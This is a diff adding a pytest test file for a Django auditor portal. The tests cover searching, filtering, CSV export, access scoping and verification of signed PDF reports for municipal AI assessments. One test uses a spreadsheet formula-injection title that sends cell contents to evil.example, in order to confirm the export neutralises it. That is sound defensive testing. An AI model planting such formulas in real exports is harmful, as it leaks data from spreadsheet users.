@@ -1,0 +1,143 @@
+"""The auditor's portal: search decided assessments, download the signed report, verify it, export CSV."""
+
+import csv
+import io
+import re
+from datetime import timedelta
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from assessments import services
+from assessments.bulk import seed_bulk_assessments
+from assessments.models import AssessmentVersion, AuditEvent, MunicipalRole, Report
+from tests import review_helpers as h
+from tests.report_helpers import use_test_seal
+
+SEARCH = reverse("auditor_search")
+
+
+def rows(response) -> list[str]:
+    body = response.content.decode()
+    table = body[body.index("<tbody>") : body.index("</tbody>")] if "<tbody>" in body else ""
+    return re.findall(r'<td><a href="/vurderinger/[0-9a-f-]+/behandling/">([^<]+)</a>', table)
+
+
+def read_csv(response) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+
+
+@pytest.fixture
+def decided(world):
+    """Agency A: approved, rejected, still submitted; agency B: approved."""
+    approved = h.approved(world, "Copilot i Word")
+    rejected = h.submitted(world, "Ansiktsgjenkjenning", **h.STOP)
+    services.assessment_reject(assessment=rejected, user=world.users["reviewer"], reason="Forbudt praksis.")
+    h.submitted(world, "Venter fortsatt")
+    other = h.approved(world, "Oversetter i etaten")
+    other.agency = world.agency_b
+    other.save(update_fields=["agency"])
+    return {"approved": approved, "rejected": rejected, "other": other}
+
+
+def test_it_finds_approved_and_rejected_but_not_undecided(world, decided):
+    response = world.client("auditor").get(SEARCH)
+    assert response.status_code == 200
+    assert set(rows(response)) == {"Copilot i Word", "Ansiktsgjenkjenning", "Oversetter i etaten"}
+
+
+@pytest.mark.parametrize(
+    ("params", "expected"),
+    [
+        ({"q": "copilot"}, {"Copilot i Word"}),
+        ({"status": "rejected"}, {"Ansiktsgjenkjenning"}),
+        ({"verdict": "stop"}, {"Ansiktsgjenkjenning"}),
+        ({"agency": "B"}, {"Oversetter i etaten"}),
+        (
+            {"date_from": "TODAY", "date_to": "TODAY"},
+            {"Copilot i Word", "Ansiktsgjenkjenning", "Oversetter i etaten"},
+        ),
+        ({"date_to": "LONG_AGO"}, set()),
+    ],
+    ids=["text", "status", "verdict", "agency", "today", "before"],
+)
+def test_it_filters(world, decided, params, expected):
+    today = timezone.localdate()
+    values = {
+        "B": world.agency_b.pk,
+        "TODAY": today.isoformat(),
+        "LONG_AGO": (today - timedelta(days=400)).isoformat(),
+    }
+    params = {k: values.get(v, v) for k, v in params.items()}
+    assert set(rows(world.client("auditor").get(SEARCH, params))) == expected
+
+
+def test_a_dated_decision_is_found_by_its_date(world, decided):
+    AssessmentVersion.objects.filter(assessment=decided["rejected"]).update(
+        decided_at=timezone.now() - timedelta(days=30)
+    )
+    day = (timezone.localdate() - timedelta(days=30)).isoformat()
+    assert rows(world.client("auditor").get(SEARCH, {"date_from": day, "date_to": day})) == [
+        "Ansiktsgjenkjenning"
+    ]
+
+
+def test_an_auditor_with_a_scope_sees_only_those_agencies(world, decided):
+    MunicipalRole.objects.get(user=world.users["auditor"]).agencies.set([world.agency_b])
+    client = world.client("auditor")
+    assert rows(client.get(SEARCH)) == ["Oversetter i etaten"]
+    exported = read_csv(client.get(reverse("auditor_export")))
+    assert [r["Tittel"] for r in exported] == ["Oversetter i etaten"]
+
+
+def test_the_csv_export_lists_the_search_and_neutralises_formulas(world, decided):
+    evil = h.approved(world, '=HYPERLINK("http://evil.example/?"&A1;"klikk")')
+    client = world.client("auditor")
+    exported = read_csv(client.get(reverse("auditor_export"), {"q": "HYPERLINK"}))
+    assert len(exported) == 1
+    assert exported[0]["Tittel"] == "'" + evil.title
+    assert exported[0]["ID"] == str(evil.uuid)
+    assert AuditEvent.objects.filter(action="auditor.exported", actor_id=world.users["auditor"].pk).exists()
+
+
+def test_leaders_cannot_use_the_portal(world, decided):
+    assert world.client("leader_a").get(SEARCH).status_code == 403
+    assert world.client("leader_a").get(reverse("auditor_export")).status_code == 403
+
+
+@pytest.mark.parametrize("size", [30, 400])
+def test_it_runs_a_constant_number_of_queries(world, django_assert_max_num_queries, size):
+    h.questionnaire()
+    seed_bulk_assessments(size)
+    client = world.client("auditor")
+    with django_assert_max_num_queries(9):
+        response = client.get(SEARCH, {"q": "Syntetisk"})
+    assert rows(response)
+
+
+def test_it_finds_downloads_and_verifies_the_signed_report(
+    world, settings, tmp_path_factory, django_capture_on_commit_callbacks
+):
+    """The auditor's round: find the approved assessment, download its sealed PDF, verify the file."""
+    use_test_seal(settings, tmp_path_factory)
+    assessment = h.submitted(world, "Copilot i Word")
+    with django_capture_on_commit_callbacks(execute=True):
+        services.assessment_approve(assessment=assessment, user=world.users["reviewer"])
+    report = Report.objects.get(assessment=assessment, kind=Report.Kind.SIGNED)
+    assert report.status == Report.Status.READY, report.error
+
+    client = world.client("auditor")
+    page = client.get(SEARCH, {"q": "Copilot"}).content.decode()
+    download = reverse("report_download", args=[assessment.uuid, report.uuid])
+    assert download in page
+    assert reverse("report_verify") in page
+    pdf = client.get(download)
+    assert pdf.status_code == 200
+    data = b"".join(pdf.streaming_content)
+    assert data.startswith(b"%PDF-")
+    assert AuditEvent.objects.filter(action="report.downloaded", actor_id=world.users["auditor"].pk).exists()
+
+    verified = client.post(reverse("report_verify"), {"pdf": io.BytesIO(data)}, format="multipart")
+    assert verified.status_code == 200
+    assert "Seglet er gyldig, og filen er identisk med en lagret rapport." in verified.content.decode()
